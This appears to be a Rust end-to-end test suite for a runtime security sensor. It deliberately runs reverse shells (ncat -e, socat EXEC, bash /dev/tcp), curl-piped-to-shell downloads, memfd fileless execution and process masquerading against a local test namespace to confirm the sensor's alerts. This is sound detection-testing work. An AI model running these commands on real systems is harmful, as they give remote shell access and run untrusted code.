//! Execution: shells under servers, reverse shells, download-and-run,
//! writable-dir and fileless execution, drift, masquerading.

use crate::{NOW, RemoveOnDrop, args_contain, check, ev, pid_is, sensor, token, wait_for_graded};
use sensor_e2e::rules::{FakeContainer, NetNs, Reaper, Scratch, converse, python, run, run_ok};
use sensor_e2e::{get, s, u};
use std::os::unix::process::CommandExt;
use std::process::Command;

fn is_exec(e: &serde_json::Value) -> bool {
    s(e, &["type"]) == "exec"
}

fn lineage(e: &serde_json::Value, i: usize) -> &str {
    get(e, &["process", "lineage"]).get(i).and_then(|v| v.as_str()).unwrap_or("")
}

#[test]
fn shell_from_server() {
    let sensor = sensor();
    let scratch = Scratch::new("server");
    // stand-ins for a web server and a database: copies of bash under their names
    let nginx = scratch.str("nginx");
    let postgres = scratch.str("postgres");
    std::fs::copy("/usr/bin/bash", &nginx).unwrap();
    std::fs::copy("/usr/bin/bash", &postgres).unwrap();
    // the trailing `; true` keeps bash from exec'ing its last command
    run_ok(Command::new(&nginx).args(["-c", "/usr/bin/id >/dev/null; /bin/sh -c 'echo child; true'; true"]));
    let a = sensor.wait_for_alert("shell_from_server", |e| is_exec(e) && lineage(e, 0) == nginx);
    check(&a, "shell_from_server", "high");
    assert!(ev(&a, &["process", "exe"]).ends_with("sh"), "{a}");
    // as a grandchild: postgres -> timeout -> sh
    run_ok(Command::new(&postgres).args(["-c", "/usr/bin/timeout 10 /bin/sh -c 'echo grandchild; true'; true"]));
    let a = sensor.wait_for_alert("shell_from_server", |e| {
        is_exec(e) && lineage(e, 0) == "/usr/bin/timeout" && lineage(e, 1) == postgres
    });
    check(&a, "shell_from_server", "high");
    sensor.no_alert("shell_from_server", NOW, |e| s(e, &["process", "exe"]) == "/usr/bin/id" && lineage(e, 0) == nginx);
}

#[test]
fn reverse_shell_tool() {
    let sensor = sensor();
    let ns = NetNs::new();
    let peer = ns.peer().to_string();
    let mut reaper = Reaper::default();
    // near-miss: a port check, no program attached to the connection
    let (near, _) = run(Command::new("/usr/bin/ncat").args(["-z", "-w", "2", &peer, "4440"]));
    let l = ns.listen(4444);
    let ncat = reaper.add(Command::new("/usr/bin/ncat").args([&peer, "4444", "-e", "/bin/sh"]).spawn().unwrap());
    let got = converse(&l, b"echo ncat-shell-ok\nexit\n");
    assert!(got.contains("ncat-shell-ok"), "the reverse shell did not answer: {got:?}");
    let a = sensor.wait_for_alert("reverse_shell_tool", |e| pid_is(e, ncat) && is_exec(e));
    check(&a, "reverse_shell_tool", "critical");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/ncat");

    let l = ns.listen(4445);
    let socat = reaper
        .add(Command::new("/usr/bin/socat").args([format!("TCP:{peer}:4445"), "EXEC:/bin/sh".into()]).spawn().unwrap());
    let got = converse(&l, b"echo socat-shell-ok\nexit\n");
    assert!(got.contains("socat-shell-ok"), "the reverse shell did not answer: {got:?}");
    let a = sensor.wait_for_alert("reverse_shell_tool", |e| pid_is(e, socat) && is_exec(e));
    check(&a, "reverse_shell_tool", "critical");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/socat");
    sensor.no_alert("reverse_shell_tool", NOW, |e| pid_is(e, near));
}

#[test]
fn reverse_shell_dev_tcp() {
    let sensor = sensor();
    let ns = NetNs::new();
    let l = ns.listen(4444);
    let mut reaper = Reaper::default();
    let script = format!("exec 3<>/dev/tcp/{}/4444; exec /bin/sh <&3 >&3 2>&3", ns.peer());
    let bash = reaper.add(Command::new("/usr/bin/bash").arg("-c").arg(&script).spawn().unwrap());
    let got = converse(&l, b"echo dev-tcp-ok\nexit\n");
    assert!(got.contains("dev-tcp-ok"), "the reverse shell did not answer: {got:?}");
    let a = sensor.wait_for_alert("reverse_shell_dev_tcp", |e| pid_is(e, bash) && args_contain(e, "/dev/tcp/"));
    check(&a, "reverse_shell_dev_tcp", "critical");
    assert_eq!(ev(&a, &["type"]), "exec");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/bash");
}

#[test]
fn shell_stdio_to_socket() {
    let sensor = sensor();
    let ns = NetNs::new();
    let l = ns.listen(4444);
    let mut reaper = Reaper::default();
    let script =
        format!("exec 3<>/dev/tcp/{}/4444; exec 0<&3 1>&3 2>&3; read line; echo \"got $line\"; exit 0", ns.peer());
    let bash = reaper.add(Command::new("/usr/bin/bash").arg("-c").arg(&script).spawn().unwrap());
    let got = converse(&l, b"hello\n");
    assert_eq!(got, "got hello\n");
    let a = sensor.wait_for_alert("shell_stdio_to_socket", |e| pid_is(e, bash) && s(e, &["type"]) == "dup");
    check(&a, "shell_stdio_to_socket", "critical");
    assert_eq!(get(&a, &["event", "syscall", "oldfd_is_socket"]), true);
    assert!(u(&a["event"], &["syscall", "newfd"]) <= 2, "{a}");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/bash");
}

#[test]
fn shell_network_connect() {
    let sensor = sensor();
    let ns = NetNs::new();
    let _far = ns.listen(4444);
    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let lport = local.local_addr().unwrap().port();
    // loopback first (the near-miss), then out through the veth
    let script =
        format!("exec 3<>/dev/tcp/127.0.0.1/{lport}; exec 4<>/dev/tcp/{}/4444; echo hi >&4; exit 0", ns.peer());
    let bash = run_ok(Command::new("/usr/bin/bash").arg("-c").arg(&script));
    let peer = ns.peer().to_string();
    let a = sensor.wait_for_alert("shell_network_connect", |e| {
        pid_is(e, bash) && s(e, &["net", "daddr"]) == peer && u(e, &["net", "dport"]) == 4444
    });
    check(&a, "shell_network_connect", "critical");
    assert_eq!(ev(&a, &["type"]), "connect");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/bash");
    sensor.no_alert("shell_network_connect", NOW, |e| pid_is(e, bash) && s(e, &["net", "daddr"]) == "127.0.0.1");
}

#[test]
fn download_piped_to_shell() {
    let sensor = sensor();
    let ns = NetNs::new();
    ns.serve(8080, 2, b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\necho piped-script-ran\n");
    let scratch = Scratch::new("download");
    let url = format!("http://{}:8080/install.sh", ns.peer());
    // near-miss: the same download saved to a file
    let near = run_ok(
        Command::new("/usr/bin/bash")
            .arg("-c")
            .arg(format!("curl --noproxy '*' -fsS -o {} {url}", scratch.str("install.sh"))),
    );
    let (bash, out) = run(Command::new("/usr/bin/bash").arg("-c").arg(format!("curl --noproxy '*' -fsS {url} | sh")));
    assert!(String::from_utf8_lossy(&out.stdout).contains("piped-script-ran"), "{out:?}");
    let a = sensor.wait_for_alert("download_piped_to_shell", |e| pid_is(e, bash) && is_exec(e));
    check(&a, "download_piped_to_shell", "high");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/bash");
    sensor.no_alert("download_piped_to_shell", NOW, |e| pid_is(e, near));
}

#[test]
fn exec_from_writable_dir() {
    sensor(); // running before the behaviour
    // /dev/shm is never a build directory: high
    let shm = RemoveOnDrop(format!("/dev/shm/sensor-e2e-{}", token()).into());
    std::fs::copy("/usr/bin/true", &shm.0).unwrap();
    let shm_path = shm.0.to_str().unwrap();
    let pid = run_ok(&mut Command::new(&shm.0));
    let a = wait_for_graded("exec_from_writable_dir", "high", |e| pid_is(e, pid) && is_exec(e));
    assert_eq!(ev(&a, &["process", "exe"]), shm_path);
    // /tmp, started from a shell (what builds and scripts do): low
    let scratch = Scratch::new("writable");
    let tmp_bin = scratch.str("dropped");
    std::fs::copy("/usr/bin/true", &tmp_bin).unwrap();
    run_ok(Command::new("/usr/bin/bash").arg("-c").arg(format!("{tmp_bin}; true")));
    wait_for_graded("exec_from_writable_dir", "low", |e| is_exec(e) && s(e, &["process", "exe"]) == tmp_bin);
}

const MEMFD_EXEC: &str = "import os, sys
fd = os.memfd_create(sys.argv[1], 0)
os.write(fd, open('/usr/bin/true', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['true'])
";

#[test]
fn fileless_exec_memfd() {
    let sensor = sensor();
    // runc re-executes itself from a memfd named runc_cloned: allowlisted
    let near = run_ok(python(MEMFD_EXEC).arg("runc_cloned:/proc/self/exe"));
    let name = format!("sensor-e2e-{}", token());
    let pid = run_ok(python(MEMFD_EXEC).arg(&name));
    let a = sensor.wait_for_alert("fileless_exec_memfd", |e| pid_is(e, pid) && is_exec(e));
    check(&a, "fileless_exec_memfd", "critical");
    assert!(ev(&a, &["process", "exe"]).starts_with(&format!("/memfd:{name}")), "{a}");
    sensor.no_alert("fileless_exec_memfd", NOW, |e| pid_is(e, near));
}

#[test]
fn container_drift_exec() {
    let sensor = sensor();
    let container = FakeContainer::new();
    let scratch = Scratch::new("drift");
    let mut shell = container.shell();
    // a binary that was on disk before the container's shell started
    shell.run("/usr/bin/true");
    let dropped = scratch.str(&format!("dropped-{}", token()));
    std::fs::copy("/usr/bin/true", &dropped).unwrap();
    shell.run(&dropped);
    let a = sensor.wait_for_alert("container_drift_exec", |e| is_exec(e) && s(e, &["process", "exe"]) == dropped);
    check(&a, "container_drift_exec", "high");
    assert_eq!(ev(&a, &["process", "container_id"]), container.id);
    assert_eq!(get(&a, &["event", "exec", "written_after_parent_start"]), true, "{a}");
    sensor.no_alert("container_drift_exec", NOW, |e| {
        s(e, &["process", "exe"]) == "/usr/bin/true" && s(e, &["process", "container_id"]) == container.id
    });
}

#[test]
fn process_masquerading() {
    let sensor = sensor();
    let scratch = Scratch::new("masq");
    // near-misses: a real systemd tool and a plain shell
    let mut near = vec![run_ok(Command::new("/usr/bin/bash").args(["-c", "true"]))];
    if std::path::Path::new("/usr/bin/systemctl").exists() {
        near.push(run(Command::new("/usr/bin/systemctl").arg("--version")).0);
    }
    // a copy of sleep named sshd, outside the system directories
    let fake_sshd = scratch.str("sshd");
    std::fs::copy("/usr/bin/sleep", &fake_sshd).unwrap();
    let sshd = run_ok(Command::new(&fake_sshd).arg("0"));
    // sleep presenting itself as a kernel thread in argv[0]
    let kthreadd = run_ok(Command::new("/usr/bin/sleep").arg0("kthreadd").arg("0"));
    let a = sensor.wait_for_alert("process_masquerading", |e| pid_is(e, sshd) && is_exec(e));
    check(&a, "process_masquerading", "high");
    assert_eq!(ev(&a, &["process", "exe"]), fake_sshd);
    let a = sensor.wait_for_alert("process_masquerading", |e| pid_is(e, kthreadd) && is_exec(e));
    check(&a, "process_masquerading", "high");
    assert_eq!(ev(&a, &["process", "exe"]), "/usr/bin/sleep");
    assert_eq!(get(&a, &["event", "process", "args"])[0], "kthreadd");
    sensor.no_alert("process_masquerading", NOW, |e| near.iter().any(|p| pid_is(e, *p)));
}
